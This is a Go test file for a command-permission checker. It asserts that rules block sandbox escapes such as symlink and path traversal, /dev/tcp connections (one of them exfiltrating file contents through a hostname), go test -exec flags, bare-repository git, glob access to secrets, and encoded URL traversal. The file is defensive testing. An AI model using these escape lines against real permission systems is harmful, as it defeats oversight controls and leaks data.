package permission

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/dsh-go/dsh/limits"
	"github.com/dsh-go/dsh/service/bash"
	"github.com/dsh-go/dsh/service/web"
)

// TestEscapes: lines that rules for something else must not let through.
func TestEscapes(t *testing.T) {
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(dir, "root")
	for _, err := range []error{
		os.MkdirAll(filepath.Join(root, "src"), 0o755), os.Mkdir(filepath.Join(dir, "else"), 0o755),
		os.Symlink(filepath.Join(dir, "new"), filepath.Join(root, "src", "dangling")),
		os.Symlink(filepath.Join(dir, "else"), filepath.Join(root, "src", "link")),
		os.Symlink("loop", filepath.Join(root, "src", "loop")),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	allow := rules(t, "edit(src/**);bash(go test *);bash(make)")
	for line, want := range map[string]bool{
		"echo x > src/a":                        true,
		"echo x > src/../src/a":                 true,
		"echo x > src/dangling":                 false, // it would be made where the link leads
		"echo x > src/link/a":                   false,
		"echo x > src/link/../a":                false, // the system goes up from where the link leads
		"echo x > src/new/../../a":              false,
		"echo x > src/loop/../../../a":          false,
		"echo x > /proc/self/cwd/src/a":         false,
		"cat < a":                               true,
		"cat < /dev/tcp/127.0.0.1/1":            false,
		"cat < /dev/tcp/$(cat a).example.org/1": false,
		"make < /dev/tcp/127.0.0.1/1":           false,
		"make < \"$x\"":                         false,
	} {
		a := intent(context.Background(), bash.Run{Command: line, Workdir: root})
		if got := a.allowed(allow, []string{root}); got != want {
			t.Errorf("%s: allowed %v, want %v", line, got, want)
		}
	}
	every := rules(t, "edit")
	if a := intent(context.Background(), bash.Run{Command: "cat a > /dev/tcp/127.0.0.1/1", Workdir: root}); a.allowed(every, nil) {
		t.Error("a rule about files allows a connection")
	}
}

// TestStdin: what a command reads is shown, and no line that reads something is
// remembered or allowed as this very line.
func TestStdin(t *testing.T) {
	a := intent(context.Background(), bash.Run{Command: "python3 -", Workdir: "/", Stdin: "import evil"})
	if q := (&Policy{}).question(context.Background(), a); !strings.Contains(q.Detail, "with 11 bytes of input:\nimport evil") || q.Remember != "" {
		t.Errorf("%+v", q)
	}
	if a.allowed(rules(t, "bash(=python3 -)"), nil) {
		t.Error("the rule is about the line without an input")
	}
}

// TestOtherShell: where there is no bash, what only bash reads so is not known.
func TestOtherShell(t *testing.T) {
	for shell, reads := range map[string]bool{"bash": true, "": true, "sh": false} {
		if a := intent(context.Background(), bash.Run{Command: "[[ a > b ]]", Workdir: "/", Shell: shell}); a.onlyReads() != reads {
			t.Errorf("%q: reads %v", shell, !reads)
		}
	}
}

// TestRememberedFlags: what was remembered of go test holds for no flag by which it
// runs another program.
func TestRememberedFlags(t *testing.T) {
	b, err := newBinding(Binding{Mode: Ask})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rules(t, "bash(go test *);bash(cargo test *);bash(git commit *)") {
		b.remember(remembered{r, ""})
	}
	for line, want := range map[string]bool{
		"go test ./...": true, "go test -race -count=1 -run 'A|B' ./a": true, "go test . -args -exec": true, "git commit -m x": true, "cargo test -- --nocapture": true,
		"go test -exec ./x ./...": false, "go test --toolexec=./x ./...": false, "go test -vettool=x .": false, "go test -o /x .": false, "go test -ldflags=-extld=./x .": false,
		"cargo test --config x=y": false, "go test . ; go test -exec ./x .": false,
	} {
		a := intent(context.Background(), bash.Run{Command: line, Workdir: "/"})
		if got := b.recalls(a, nil); got != want {
			t.Errorf("%s: recalled %v, want %v", line, got, want)
		}
		if rule, _ := a.remember(); !want && !strings.HasPrefix(rule, "bash(=") {
			t.Errorf("%s would be remembered as %s", line, rule)
		}
	}
}

// TestBareRepository: git in a bare repository that a project brings along runs
// what its settings say, so it does not only read there.
func TestBareRepository(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("makes repositories with git, which is not installed")
	}
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) {
		t.Helper()
		cmd := exec.CommandContext(t.Context(), git, args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL="+os.DevNull, "GIT_CONFIG_SYSTEM="+os.DevNull)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v: %s", args, err, out)
		}
	}
	run("init", "-q", ".")
	run("init", "-q", "--bare", "stray")
	if err := os.MkdirAll(filepath.Join(dir, "sub", "deep"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../stray", filepath.Join(dir, "sub", "link")); err != nil {
		t.Fatal(err)
	}
	for line, want := range map[string]bool{
		"git status": true, "cd sub && git log": true, "git -C sub/deep status": true, "cd /nowhere; git diff": true, "git -C .git status": true,
		"git -C stray status": false, "cd stray && git status": false, "cd stray/refs; git status": false, "cd sub && git -C ../stray log": false,
		"git -C sub -C ../stray log": false, "cd sub/link && git diff": false, "cd \"$x\" && git status": false, "bash -c 'cd stray && git status'": false,
		"find . -execdir git status \\;": false, "cd sub; cd ..; cd stray; git log": false, "git --no-pager -C sub/link/refs/heads log": false,
	} {
		a := intent(context.Background(), bash.Run{Command: line, Workdir: dir})
		if got := a.onlyReads(); got != want {
			t.Errorf("%s: only reads %v, want %v (%s)", line, got, want, a.more())
		}
		if got := a.allowed(nil, nil); got != want {
			t.Errorf("%s: allowed without rules %v, want %v", line, got, want)
		}
		if !a.allowed(rules(t, "bash(git *)"), nil) && !strings.Contains(line, "$x") && !strings.Contains(line, "find") {
			t.Errorf("%s: a rule does not allow it", line)
		}
	}
	a := intent(context.Background(), bash.Run{Command: "git status", Workdir: filepath.Join(dir, "stray")})
	if a.onlyReads() {
		t.Error("the folder of the command is one")
	}
}

// TestInsideFoldsCase: on systems that do not tell cases apart, head is HEAD.
func TestInsideFoldsCase(t *testing.T) {
	for path, want := range map[string]bool{"/r/a": true, "/r/.GIT/config": false, "/r/x/head": false, "/r/x/HEAD": false, "/r": false, "/q/a": false} {
		if got := (&act{path: path}).inside([]string{"/r"}); got != want {
			t.Errorf("%s: %v", path, got)
		}
	}
}

// TestDeniedByPattern: a file that a rule denies is denied by a pattern of the shell
// too.
func TestDeniedByPattern(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, err := range []error{
		os.Mkdir(filepath.Join(root, "secrets"), 0o755), os.WriteFile(filepath.Join(root, "secrets", "key"), nil, 0o600), os.WriteFile(filepath.Join(root, "a.go"), nil, 0o600),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(root, "many"), 0o755); err != nil {
		t.Fatal(err)
	}
	for i := range limits.ShellCommands + 1 {
		if err := os.WriteFile(filepath.Join(root, "many", strconv.Itoa(i)), nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	deny := rules(t, "read(secrets/**)")
	for line, want := range map[string]verdict{
		"cat secrets/key": yes, "cat sec*/key": yes, "cat s?crets/*": yes, "cat [a-z]ecrets/k[!x]y": yes, "cat *.go": no, "cat */x": no,
		"cat " + root + "/*/key": yes, "cat [": no, "cd " + root + "/many && cat x*": maybe, "cd / && cat " + root + "/*.go": no, "cat many/*": maybe, "cat many/* sec*/key": yes,
	} {
		a := intent(context.Background(), bash.Run{Command: line, Workdir: root})
		if _, got := a.denied(deny, []string{root}); got != want {
			t.Errorf("%s: %v, want %v", line, got, want)
		}
	}
}

// TestURLs: a rule about a path holds for what a server may take the path for, and
// no host is remembered that is a pattern.
func TestURLs(t *testing.T) {
	of := func(url string) *act { return intent(context.Background(), web.PendingFetch{URL: url}) }
	allow, deny := rules(t, "fetch(https://go.dev/doc/*)"), rules(t, "fetch(https://go.dev/admin/*)")
	for url, want := range map[string]struct {
		allowed bool
		denied  verdict
	}{
		"https://go.dev/doc/a?x=../b":         {true, no},
		"https://go.dev/doc/a/../b/":          {true, no},
		"https://go.dev/doc/../admin/x":       {false, yes},
		"https://go.dev/doc/%2e%2E/admin/x":   {false, yes},
		"https://go.dev/doc/..%2fadmin%2Fx":   {false, yes},
		"https://go.dev/doc/..%5cadmin/x":     {false, yes},
		"https://go.dev//admin/x":             {false, yes},
		"https://go.dev/doc":                  {false, no},
		"https://go.dev:8443/doc/a":           {false, no},
		"https://go.dev.example.org/doc/a":    {false, no},
		"http://go.dev/doc/a":                 {false, no},
		"https://example.org/?https://go.dev": {false, no},
	} {
		a := of(url)
		if got := a.allowed(allow, nil); got != want.allowed {
			t.Errorf("%s: allowed %v", url, got)
		}
		if _, got := a.denied(deny, nil); got != want.denied {
			t.Errorf("%s: denied %v", url, got)
		}
	}
	if rule, _ := of("https://*/x").remember(); rule != "" {
		t.Errorf("remembered as %s", rule)
	}
	if rule, _ := of("https://go.dev/x").remember(); rule != "fetch(https://go.dev/*)" {
		t.Errorf("remembered as %s", rule)
	}
}

// TestDeniedInDisguise: what is denied is found where another program runs it.
func TestDeniedInDisguise(t *testing.T) {
	deny := rules(t, "bash(rm *);bash(git push *)")
	for line, want := range map[string]verdict{
		"su -c 'ls; rm x'": yes, "ssh h 'cd x && git -C y push'": yes, "watch \"rm x\"": yes, "script -c 'su -c \"rm x\"'": yes, "flock l -c 'ls x'": no,
		"git -c alias.p=push p": maybe, "git config ALIAS.p push": maybe, "bash -c -e 'rm x'": maybe, "zsh -c 'rm x'": maybe, "git log": no,
	} {
		a := intent(context.Background(), bash.Run{Command: line, Workdir: "/"})
		if _, got := a.denied(deny, nil); got != want {
			t.Errorf("%s: %v, want %v", line, got, want)
		}
	}
}
